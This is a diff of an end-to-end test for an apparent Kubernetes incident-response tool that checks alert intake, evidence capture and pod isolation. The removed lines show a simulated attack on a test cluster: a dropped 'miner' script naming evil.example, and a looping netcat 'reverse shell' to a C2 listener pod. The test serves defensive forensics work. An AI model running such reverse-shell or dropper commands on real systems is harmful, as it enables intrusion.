@@ -5,7 +5,7 @@
  * checks the cluster and the evidence that comes out, then verifies the bundle with the CLI.
  */
 import assert from 'node:assert/strict';
-import { spawn, spawnSync } from 'node:child_process';
+import { spawnSync } from 'node:child_process';
 import crypto from 'node:crypto';
 import fs from 'node:fs';
 import os from 'node:os';
@@ -13,10 +13,11 @@ import path from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import * as k8s from '@kubernetes/client-node';
 import * as tar from 'tar-stream';
-import { freePort } from '../../scripts/stack';
+import { c2Pod, DROPPED_FILE, falcoAlert, memoryMarker, shopDeployment } from '../../scripts/demo-workload';
+import { identitiesEnv, startHoldfast, type RunningHoldfast } from '../../scripts/local-env';
 import { missingServers, repoRoot } from '../helpers/env';
 import {
-  applyRbac, deploymentOf, deploymentReady, execIn, IMAGES, kubeClients, serviceAccountKubeconfig, sleep, waitFor,
+  deploymentOf, deploymentReady, execIn, IMAGES, kubeClients, sleep, waitFor,
 } from '../helpers/kube';
 import { startRecordingServer, type RecordingServer } from '../helpers/recording-server';
 
@@ -26,38 +27,11 @@ const SKIP = missingServers() ?? (KUBECONFIG ? false : 'HOLDFAST_TEST_KUBECONFIG
 const RUN = crypto.randomBytes(3).toString('hex');
 const NS = `holdfast-e2e-${RUN}`;
 const NS_DRY = `holdfast-dry-${RUN}`;
-const TOKENS = { intake: `intake-${RUN}-0123456789abcdef`, responder: `responder-${RUN}-0123456789ab`, investigator: `investigator-${RUN}-0123456789` };
-// The marker is assembled at run time, so it is in the shell's heap but not in any command line.
-const MEMORY_MARKER = `holdfast-memory-marker-${RUN}`;
+const MEMORY_MARKER = memoryMarker(RUN);
 const DISTROLESS_MARKER = `holdfast-distroless-secret-${RUN}`;
 const QUARANTINE_LABEL = 'holdfast.io/quarantine';
 
-const SHOP_SCRIPT = [
-  'set -e',
-  'mkdir -p /www && echo shop-ok > /www/index.html && httpd -p 8080 -h /www',
-  'echo "miner --pool evil.example" > /tmp/dropped-miner.sh && chmod +x /tmp/dropped-miner.sh',
-  'echo shop started',
-  // the outbound "reverse shell": a TCP connection to the c2 pod that stays open
-  '(while true; do sleep 100000 | nc "$C2_IP" 4444; sleep 1; done) &',
-  'A=holdfast-memory; B=marker; SECRET="$A-$B-$RUN_ID"',
-  'while true; do echo "tick ${#SECRET}" > /dev/null; sleep 2; done',
-].join('\n');
-
 interface IncidentBody { status: { phase: string; steps: Array<{ name: string; kind: string; state: string; error?: string; notes: string[] }> } }
-
-function falcoAlert(namespace: string, pod: string, container = 'app') {
-  return {
-    uuid: crypto.randomUUID(),
-    output: `Critical Drop and execute new binary in container (user=root command=/tmp/dropped-miner.sh k8s.ns=${namespace} k8s.pod=${pod})`,
-    priority: 'Critical',
-    rule: 'Drop and execute new binary in container',
-    time: new Date().toISOString(),
-    source: 'syscall',
-    tags: ['container', 'mitre_persistence'],
-    hostname: 'holdfast-node',
-    output_fields: { 'container.name': container, 'k8s.ns.name': namespace, 'k8s.pod.name': pod, 'proc.cmdline': '/tmp/dropped-miner.sh' },
-  };
-}
 
 async function tarNames(file: string): Promise<string[]> {
   const names: string[] = [];
@@ -70,22 +44,20 @@ async function tarNames(file: string): Promise<string[]> {
 }
 
 describe('end to end on the local cluster, through the API', { skip: SKIP, timeout: 20 * 60_000 }, () => {
-  let kc: k8s.KubeConfig;
   let core: k8s.CoreV1Api;
   let apps: k8s.AppsV1Api;
   let net: k8s.NetworkingV1Api;
   let exec: k8s.Exec;
   let hook: RecordingServer;
-  let stack: ReturnType<typeof spawn> | undefined;
-  let stackOutput = '';
+  let holdfast: RunningHoldfast | undefined;
   let api = '';
   let work = '';
   let nodeName = '';
   let c2IP = '';
 
-  const headers = (role: keyof typeof TOKENS) => ({ authorization: `Bearer ${TOKENS[role]}`, 'content-type': 'application/json' });
+  const headers = (role: keyof RunningHoldfast['tokens']) => ({ authorization: `Bearer ${holdfast!.tokens[role]}`, 'content-type': 'application/json' });
   const cli = (...args: string[]) => spawnSync(process.execPath, [path.join(repoRoot, 'bin', 'holdfast.js'), ...args], {
-    env: { ...process.env, HOLDFAST_API_URL: api, HOLDFAST_TOKEN: TOKENS.investigator }, encoding: 'utf8', timeout: 120_000,
+    env: { ...process.env, HOLDFAST_API_URL: api, HOLDFAST_TOKEN: holdfast!.tokens.investigator }, encoding: 'utf8', timeout: 120_000,
   });
 
   async function postAlert(namespace: string, pod: string, container?: string): Promise<{ incidentId: string; acceptedAt: number }> {
@@ -107,7 +79,7 @@ describe('end to end on the local cluster, through the API', { skip: SKIP, timeo
     return waitFor(`incident ${incidentId} to reach escalation`, 240_000, async () => {
       const body = await incident(incidentId);
       return ['escalating', 'acknowledged'].includes(body.status.phase) ? body : undefined;
-    }, 1000).catch((err: Error) => { throw new Error(`${err.message}\n--- stack output ---\n${stackOutput.slice(-4000)}`); });
+    }, 1000).catch((err: Error) => { throw new Error(`${err.message}\n--- stack output ---\n${holdfast!.output().slice(-4000)}`); });
   }
 
   async function runningPods(namespace: string, selector: string): Promise<k8s.V1Pod[]> {
@@ -142,7 +114,7 @@ describe('end to end on the local cluster, through the API', { skip: SKIP, timeo
   const artifact = (dir: string, rel: string) => path.join(dir, ...rel.split('/'));
 
   before(async () => {
-    ({ kc, core, apps, net, exec } = kubeClients(KUBECONFIG!));
+    ({ core, apps, net, exec } = kubeClients(KUBECONFIG!));
     nodeName = (await core.listNode()).items[0]!.metadata!.name!;
     work = fs.mkdtempSync(path.join(os.tmpdir(), 'holdfast-e2e-'));
     for (const ns of [NS, NS_DRY]) {
@@ -151,9 +123,7 @@ describe('end to end on the local cluster, through the API', { skip: SKIP, timeo
     }
 
     // the worker gets exactly deploy/rbac.yaml's identities
-    await applyRbac(kc);
-    const captureKubeconfig = await serviceAccountKubeconfig(kc, core, 'holdfast-capture', work);
-    const containmentKubeconfig = await serviceAccountKubeconfig(kc, core, 'holdfast-containment', work);
+    const identities = await identitiesEnv(KUBECONFIG!, work);
 
     hook = await startRecordingServer();
     const playbooks = path.join(work, 'playbooks.yaml');
@@ -173,38 +143,21 @@ playbooks:
     contain: [isolate]
     escalation: { tiers: [{ notifiers: [oncall], ackTimeout: 30m }] }
 `);
-    const [apiPort, metricsPort] = await Promise.all([freePort(), freePort()]);
-    api = `http://127.0.0.1:${apiPort}`;
     const env: NodeJS.ProcessEnv = {
       ...process.env,
-      HOLDFAST_DATA_DIR: path.join(work, 'data'),
-      HOLDFAST_API_PORT: String(apiPort),
-      HOLDFAST_WORKER_METRICS_PORT: String(metricsPort),
-      HOLDFAST_TASK_QUEUE: `e2e-${RUN}`,
-      HOLDFAST_TOKENS: Object.entries(TOKENS).map(([role, token]) => `${role}=${token}`).join(','),
+      ...identities,
       HOLDFAST_PLAYBOOKS: playbooks,
       HOLDFAST_CLUSTER_NAME: 'local',
-      HOLDFAST_CAPTURE_KUBECONFIG: captureKubeconfig,
-      HOLDFAST_CONTAINMENT_KUBECONFIG: containmentKubeconfig,
       HOLDFAST_COLLECTOR_IMAGE: IMAGES.collector,
       HOLDFAST_COLLECTOR_PULL_POLICY: 'Never',
       HOLDFAST_LOG_LEVEL: 'warn',
     };
     delete env.KUBECONFIG;
-    stack = spawn(process.execPath, [path.join(repoRoot, 'dist', 'scripts', 'start.js')], { env, cwd: repoRoot, stdio: ['ignore', 'pipe', 'pipe'] });
-    stack.stdout!.on('data', (d) => { stackOutput += d; });
-    stack.stderr!.on('data', (d) => { stackOutput += d; });
-    await waitFor('the API to be ready', 120_000, async () => (await fetch(`${api}/readyz`).catch(() => undefined))?.status === 200, 500)
-      .catch((err: Error) => { throw new Error(`${err.message}\n${stackOutput}`); });
+    holdfast = await startHoldfast({ env, dataDir: path.join(work, 'data') });
+    api = holdfast.url;
 
     // the attacker's "C2" listener, then the attacked Deployment that connects out to it
-    await core.createNamespacedPod({
-      namespace: NS,
-      body: {
-        metadata: { name: 'c2', labels: { role: 'c2' } },
-        spec: { terminationGracePeriodSeconds: 1, containers: [{ name: 'c2', image: IMAGES.busybox, imagePullPolicy: 'Never', command: ['sh', '-c', 'while true; do sleep 100000 | nc -l -p 4444 > /dev/null; done'] }] },
-      },
-    });
+    await core.createNamespacedPod({ namespace: NS, body: c2Pod() });
     c2IP = await waitFor('c2 pod running', 90_000, async () => {
       const p = await core.readNamespacedPod({ name: 'c2', namespace: NS });
       return p.status?.phase === 'Running' ? p.status.podIP : undefined;
@@ -212,10 +165,7 @@ playbooks:
   });
 
   after(async () => {
-    if (stack && stack.exitCode === null) {
-      stack.kill('SIGINT');
-      await new Promise((resolve) => { stack!.once('exit', resolve); setTimeout(resolve, 30_000); });
-    }
+    await holdfast?.stop();
     await hook?.close();
     if (core) {
       for (const ns of [NS, NS_DRY]) await core.deleteNamespace({ name: ns, gracePeriodSeconds: 0 }).catch(() => undefined);
@@ -224,13 +174,10 @@ playbooks:
     if (work && process.env.HOLDFAST_KEEP_TEST_DATA !== '1') fs.rmSync(work, { recursive: true, force: true });
   });
 
-  const shopDeployment = (name: string) => deploymentOf(name, {
-    name: 'app', image: IMAGES.busybox, command: ['sh', '-c', SHOP_SCRIPT],
-    env: [{ name: 'C2_IP', value: c2IP }, { name: 'RUN_ID', value: RUN }], ports: [{ containerPort: 8080 }],
-  }, 2, { tier: 'web' });
+  const shop = (name: string) => shopDeployment(name, c2IP, RUN);
 
   test('busybox target: preserved in seconds, evidence complete and verified, isolated, the Deployment back to 2 replicas', async () => {
-    await apps.createNamespacedDeployment({ namespace: NS, body: shopDeployment('shop') });
+    await apps.createNamespacedDeployment({ namespace: NS, body: shop('shop') });
     await waitFor('deployment shop 2/2 ready', 150_000, () => deploymentReady(apps, NS, 'shop', 2), 1000);
     const suspect = (await runningPods(NS, 'app=shop'))[0]!;
     const pod = suspect.metadata!.name!;
@@ -282,8 +229,8 @@ playbooks:
     // the evidence, as an investigator gets it
     const dir = await downloadEvidence(incidentId);
     const changed = JSON.parse(fs.readFileSync(artifact(dir, 'filesystem/changed-files.json'), 'utf8')) as { entries: Array<{ path: string }> };
-    assert.ok(changed.entries.some((e) => e.path === '/tmp/dropped-miner.sh'), 'the dropped file is in the changed-files list');
-    assert.ok((await tarNames(artifact(dir, 'filesystem/rootfs.tar'))).includes('./tmp/dropped-miner.sh'), 'and in the rootfs snapshot');
+    assert.ok(changed.entries.some((e) => e.path === DROPPED_FILE), 'the dropped file is in the changed-files list');
+    assert.ok((await tarNames(artifact(dir, 'filesystem/rootfs.tar'))).includes(`.${DROPPED_FILE}`), 'and in the rootfs snapshot');
     const cores = fs.readdirSync(artifact(dir, 'memory')).filter((f) => f.endsWith('.core'));
     assert.ok(cores.length >= 1);
     assert.ok(cores.some((f) => fs.readFileSync(artifact(dir, `memory/${f}`)).includes(MEMORY_MARKER)), `a core holds the memory marker (${cores.join(', ')})`);
@@ -361,7 +308,7 @@ playbooks:
       namespace: NS_DRY,
       body: { metadata: { name: 'c2' }, spec: { terminationGracePeriodSeconds: 1, containers: [{ name: 'c2', image: IMAGES.busybox, imagePullPolicy: 'Never', command: ['sleep', '100000'] }] } },
     });
-    await apps.createNamespacedDeployment({ namespace: NS_DRY, body: shopDeployment('shop') });
+    await apps.createNamespacedDeployment({ namespace: NS_DRY, body: shop('shop') });
     await waitFor('deployment shop 2/2 ready', 150_000, () => deploymentReady(apps, NS_DRY, 'shop', 2), 1000);
     const pods = await runningPods(NS_DRY, 'app=shop');
     const pod = pods[0]!.metadata!.name!;
